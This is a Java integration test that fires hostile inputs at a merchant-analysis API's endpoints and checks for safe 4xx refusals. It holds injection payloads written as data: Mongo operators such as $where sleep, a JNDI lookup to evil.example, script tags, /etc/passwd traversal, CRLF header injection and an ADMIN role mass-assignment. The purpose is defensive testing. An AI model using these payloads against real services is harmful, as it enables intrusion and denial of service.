package com.merchantanalysis.gateway.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import com.merchantanalysis.common.testsupport.TestHttp;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * API3/API4/API10: every JSON endpoint gets malformed JSON, wrong types, unknown and mass-assigned
 * fields, Mongo operators, extreme numbers, huge and deep values and control characters; query
 * parameters and ids get the same treatment. Never a 5xx, never a stack trace, never a slow answer;
 * what must be refused is a 4xx problem+json naming the field. Answers a service may legitimately give
 * either way (e.g. -0 as an opening balance) are only required to be safe.
 */
class HostileInputAttackIT extends AttackTest {

    private static final String CATEGORY_JSON = "hostile-json";
    private static final String CATEGORY_QUERY = "hostile-query";
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Duration SLOW = Duration.ofSeconds(10);
    private static final String HOLE = "@@HOSTILE@@";

    /** A JSON endpoint, a valid sample body, and the statuses a refusal and an acceptance may have. */
    record JsonEndpoint(String name, String path, boolean admin, String sample, Set<Integer> accepted,
            Set<Integer> refused) {
    }

    static final List<JsonEndpoint> ENDPOINTS = List.of(
            new JsonEndpoint("create merchant", "/api/v1/simulator/merchants", true, """
                    {"name": "敌意输入", "industry": "RESTAURANT", "city": "Chengdu", "openingDate": "2022-03-01",
                     "licences": [{"kind": "FOOD_BUSINESS_LICENCE", "number": "JY1", "validUntil": "2030-06-30"}],
                     "openingCashBalance": 1000.00}""", Set.of(201), Set.of(400, 413, 415)),
            new JsonEndpoint("start simulation", "/api/v1/simulator/merchants/{A}/simulations", true, """
                    {"from": "2025-01-01", "to": "2025-01-10", "seed": 7}""", Set.of(200, 201, 202, 409),
                    Set.of(400, 413, 415, 409)),
            new JsonEndpoint("compliance check", "/api/v1/compliance/merchants/{A}/checks", true, """
                    {"from": "2025-01-01", "to": "2025-03-31"}""", Set.of(200, 201), Set.of(400, 413, 415)),
            new JsonEndpoint("series forecast", "/api/v1/cashflow/forecast", true, """
                    {"series": [{"date": "2025-01-01", "value": 120.5}, {"date": "2025-01-02", "value": 130.0},
                     {"date": "2025-01-03", "value": 99.9}, {"date": "2025-01-04", "value": 140.2},
                     {"date": "2025-01-05", "value": 150.0}, {"date": "2025-01-06", "value": 90.1},
                     {"date": "2025-01-07", "value": 110.0}, {"date": "2025-01-08", "value": 125.0}],
                     "horizon": 7}""", Set.of(200), Set.of(400, 413, 415, 422)),
            new JsonEndpoint("what-if scenario", "/api/v1/cashflow/merchants/{A}/scenarios", true, """
                    {"horizon": 30, "revenueChange": {"percent": -10, "from": "2025-07-01"}}""",
                    Set.of(200, 409, 422), Set.of(400, 409, 413, 415, 422)),
            new JsonEndpoint("token (JSON)", "/auth/token", false, """
                    {"client_id": "hostile-input-client", "client_secret": "not-a-real-secret"}""", Set.of(401, 429),
                    Set.of(400, 401, 413, 415, 429)),
            new JsonEndpoint("create client", "/auth/clients", true, """
                    {"clientId": "hostile-client", "roles": ["ANALYST"]}""", Set.of(201, 409), Set.of(400, 413, 415)),
            new JsonEndpoint("sign-in", "/auth/login", false, """
                    {"username": "hostile-input-user", "password": "not-a-real-password"}""", Set.of(401, 429),
                    Set.of(400, 401, 413, 415, 429)),
            new JsonEndpoint("create user", "/auth/users", true, """
                    {"username": "hostile-user", "roles": ["ANALYST"]}""", Set.of(201, 409), Set.of(400, 413, 415)));

    /** How a case is judged: refused (must be a 4xx naming the field), or either way (only safe). */
    enum Expect { REFUSED, EITHER }

    record Mutation(String name, String body, String field, Expect expect, String contentType) {
    }

    static Stream<Arguments> jsonCases() {
        List<Arguments> cases = new ArrayList<>();
        for (JsonEndpoint endpoint : ENDPOINTS) {
            mutations(endpoint.sample()).forEach(mutation -> cases.add(Arguments.of(endpoint, mutation)));
        }
        return cases.stream();
    }

    private static List<Mutation> mutations(String sample) {
        ObjectNode node = (ObjectNode) JSON.readTree(sample);
        String compact = JSON.writeValueAsString(node);
        List<Mutation> all = new ArrayList<>(List.of(
                new Mutation("empty body", "", null, Expect.REFUSED, null),
                new Mutation("truncated", compact.substring(0, compact.length() / 2), null, Expect.REFUSED, null),
                new Mutation("trailing garbage", compact + "}", null, Expect.REFUSED, null),
                new Mutation("single quotes", compact.replace('"', '\''), null, Expect.REFUSED, null),
                new Mutation("array instead of object", "[" + compact + "]", null, Expect.REFUSED, null),
                new Mutation("null body", "null", null, Expect.REFUSED, null),
                new Mutation("a string body", "\"hello\"", null, Expect.REFUSED, null),
                new Mutation("text/plain content type", compact, null, Expect.REFUSED, "text/plain"),
                new Mutation("deeply nested body", "[".repeat(100_000) + "]".repeat(100_000), null, Expect.REFUSED, null),
                new Mutation("unknown field", with(node, "zz_unknown", "1"), "zz_unknown", Expect.REFUSED, null),
                new Mutation("operator as a field", with(node, "$where", "\"sleep(5000)\""), "$where", Expect.REFUSED, null)));
        for (String massAssigned : List.of("_id", "id", "merchantId", "roles", "dataVersion", "createdBy")) {
            if (!node.has(massAssigned)) {
                all.add(new Mutation("mass assignment of " + massAssigned, with(node, massAssigned,
                        massAssigned.equals("roles") ? "[\"ADMIN\"]" : "\"hijacked-0001\""), massAssigned,
                        Expect.REFUSED, null));
            }
        }
        for (String field : node.propertyNames()) {
            boolean array = node.get(field).isArray();
            List<String[]> values = new ArrayList<>(List.of(
                    new String[] { "{\"$ne\": null}", "REFUSED" },
                    new String[] { "{\"$where\": \"sleep(5000)\"}", "REFUSED" },
                    new String[] { "{\"$regex\": \".*\"}", "REFUSED" },
                    new String[] { "1e309", "REFUSED" },
                    new String[] { "-1e309", "REFUSED" },
                    new String[] { "NaN", "REFUSED" },
                    new String[] { "123456789012345678901234567890", "REFUSED" },
                    new String[] { "\"a\\u0000b\\u001b[31m\"", "REFUSED" },
                    new String[] { "[".repeat(1000) + "]".repeat(1000), "REFUSED" },
                    new String[] { "-0", "EITHER" },
                    new String[] { "-1", "EITHER" },
                    new String[] { "true", "EITHER" },
                    new String[] { "\"" + "长".repeat(100_000) + "\"", "EITHER" },
                    new String[] { "[" + "1,".repeat(99_999) + "1]", array ? "EITHER" : "REFUSED" },
                    new String[] { "\"面馆 ☕ \\u202e 𝕏\"", "EITHER" },
                    new String[] { "\"../../../etc/passwd\"", "EITHER" },
                    new String[] { "\"${jndi:ldap://evil.example/a}<script>\"", "EITHER" },
                    new String[] { "[]", array ? "EITHER" : "REFUSED" }));
            for (String[] value : values) {
                // Not JSON at all (NaN) or refused by the parser's depth limit: "malformed" is the honest answer.
                boolean syntax = value[0].equals("NaN") || value[0].startsWith("[[");
                all.add(new Mutation(field + " = " + RawHttp.abbreviate(value[0]), with(node, field, value[0]),
                        syntax ? null : field, Expect.valueOf(value[1]), null));
            }
        }
        return all;
    }

    /** The sample with {@code field} set to raw JSON text (which need not be valid JSON). */
    private static String with(ObjectNode sample, String field, String rawValue) {
        ObjectNode copy = sample.deepCopy();
        copy.put(field, HOLE);
        return JSON.writeValueAsString(copy).replace("\"" + HOLE + "\"", rawValue);
    }

    @ParameterizedTest(name = "{0} / {1}")
    @MethodSource("jsonCases")
    void jsonEndpointsRefuseHostileBodiesSafely(JsonEndpoint endpoint, Mutation mutation) {
        String path = endpoint.path().replace("{A}", fixtures.merchantA());
        HttpRequest.Builder request = gateway.request(path, endpoint.admin() ? fixtures.adminToken() : null)
                .header("Content-Type", mutation.contentType() == null ? "application/json" : mutation.contentType())
                .POST(HttpRequest.BodyPublishers.ofString(mutation.body()));
        long started = System.nanoTime();
        TestHttp.Response response = gateway.send(request);
        Duration took = Duration.ofNanos(System.nanoTime() - started);

        Set<Integer> allowed = new HashSet<>(endpoint.refused());
        if (mutation.expect() == Expect.EITHER) {
            allowed.addAll(endpoint.accepted());
        }
        String name = endpoint.name() + " / " + mutation.name();
        Answer answer = expect(CATEGORY_JSON, name, response, allowed);
        assertThat(took).as(name + " took too long").isLessThan(SLOW);
        if (mutation.expect() == Expect.REFUSED && mutation.field() != null && answer.status() == 400) {
            JsonNode problem = response.json();
            assertThat(problem.get("detail").asString()).as(name + ": the problem names the field")
                    .contains(mutation.field());
        }
    }

    /** Query parameters and ids; {A} is the attacker's own merchant, asked for as ADMIN. */
    static Stream<Arguments> queryCases() {
        String longId = "m".repeat(3000);
        return Stream.of(
                q("/api/v1/simulator/merchants?size=1000000", 400),
                q("/api/v1/simulator/merchants?page=-1", 400),
                q("/api/v1/simulator/merchants?page=abc", 400),
                q("/api/v1/simulator/merchants?size=1e309", 400),
                q("/api/v1/simulator/merchants?size=NaN", 400),
                q("/api/v1/simulator/merchants/{A}/transactions?size=1000000", 400),
                q("/api/v1/simulator/merchants/{A}/transactions?page=1000000&size=500", 200),
                q("/api/v1/simulator/merchants/{A}/transactions?from=2025-06-30&to=2025-01-01", 400),
                q("/api/v1/simulator/merchants/{A}/transactions?from=1925-01-01&to=2025-01-01", 400),
                q("/api/v1/simulator/merchants/{A}/transactions?kind=%7B%22%24ne%22%3Anull%7D", 400),
                q("/api/v1/simulator/merchants/{A}/daily?from=2025-06-30&to=2025-01-01", 400),
                q("/api/v1/cashflow/merchants/{A}/balance?asOf=NaN", 400),
                q("/api/v1/cashflow/merchants/{A}/balance?asOf=9999999-01-01", 400),
                q("/api/v1/cashflow/merchants/{A}/balance?asOf=2025-02-30", 400),
                q("/api/v1/costs/merchants/{A}/totals?from=2025-06-30&to=2025-01-01", 400),
                q("/api/v1/costs/merchants/{A}/totals?from=1925-01-01&to=2025-01-01", 400),
                q("/api/v1/costs/merchants/{A}/totals?from=2025-13-45&to=2025-01-01", 400),
                q("/api/v1/costs/merchants/{A}/totals?from=%24gt&to=2025-01-01", 400),
                q("/api/v1/costs/merchants/{A}/break-even?rentChangePct=1e309", 400),
                q("/api/v1/costs/merchants/{A}/break-even?rentChangePct=NaN", 400),
                q("/api/v1/costs/merchants/{A}/break-even?cogsChangePct=123456789012345678901234567890", 400),
                q("/api/v1/costs/merchants/{A}/fee-audit?size=1000000", 400),
                q("/api/v1/costs/merchants/{A}/structure?from=2025-06-30&to=2025-01-01", 400),
                q("/api/v1/compliance/merchants/{A}/reports?size=1000000", 400),
                q("/api/v1/compliance/merchants/{A}/summary?from=1925-01-01&to=2025-01-01", 400),
                q("/api/v1/compliance/merchants/{A}/licences?asOf=%00", 400),
                q("/merchant/analyze?merchantId={A}&horizon=1e309", 400),
                q("/merchant/analyze?merchantId={A}&horizon=-1", 400),
                q("/merchant/analyze?merchantId={A}&horizon=1000000", 400),
                q("/merchant/analyze?merchantId={A}&from=2025-06-30&to=2025-01-01", 400),
                q("/api/v1/simulator/merchants/..%2f..%2fetc%2fpasswd", 400),
                q("/api/v1/simulator/merchants/%7B%22%24ne%22%3Anull%7D", 404),
                q("/api/v1/simulator/merchants/%24where", 404),
                q("/api/v1/simulator/merchants/" + longId, 404),
                q("/api/v1/simulator/merchants/" + URLEncoder.encode("面馆", StandardCharsets.UTF_8), 404),
                q("/api/v1/simulator/merchants/a%0d%0aSet-Cookie:x=1", 400),
                q("/api/v1/simulator/merchants/.%2e", 400));
    }

    private static Arguments q(String path, int ideal) {
        return Arguments.of(path, ideal);
    }

    /**
     * Must: no 5xx, problem+json for errors, no internals, not slow. Ideal: the status given; a service
     * that answers otherwise is counted "not as expected" in the summary (a finding for its owner).
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("queryCases")
    void queryParametersAndIdsAreHandledSafely(String template, int ideal) {
        String path = template.replace("{A}", fixtures.merchantA());
        String name = RawHttp.abbreviate(template);
        for (boolean direct : new boolean[] { false, true }) {
            String service = serviceOf(path);
            if (direct && service == null) {
                continue;
            }
            long started = System.nanoTime();
            Answer answer = Answer.of(RawHttp.send(direct ? directPort(service) : port, "GET", path,
                    java.util.Map.of("Authorization", "Bearer " + fixtures.adminToken())));
            Duration took = Duration.ofNanos(System.nanoTime() - started);
            String where = (direct ? "direct " : "gateway ") + name;
            boolean safe = answer.status() < 500 && (answer.status() < 400 || answer.isProblemJson())
                    && !answer.body().contains("Exception") && took.compareTo(SLOW) < 0;
            AttackPlatform.LEDGER.record(CATEGORY_QUERY, where, answer.status(), safe && answer.status() == ideal);
            assertThat(answer.status()).as(where + " → " + answer.body()).isLessThan(500);
            if (answer.status() >= 400) {
                assertThat(answer.contentType()).as(where).startsWith("application/problem+json");
            }
            assertThat(answer.body()).as(where).doesNotContain("Exception").doesNotContain("\tat ");
            assertThat(took).as(where + " took too long").isLessThan(SLOW);
        }
    }

    private static String serviceOf(String path) {
        if (path.startsWith("/api/v1/simulator/")) {
            return "data-simulator";
        }
        if (path.startsWith("/api/v1/cashflow/")) {
            return "cashflow-service";
        }
        if (path.startsWith("/api/v1/costs/")) {
            return "cost-analyzer";
        }
        if (path.startsWith("/api/v1/compliance/")) {
            return "compliance-checker";
        }
        return null;
    }
}
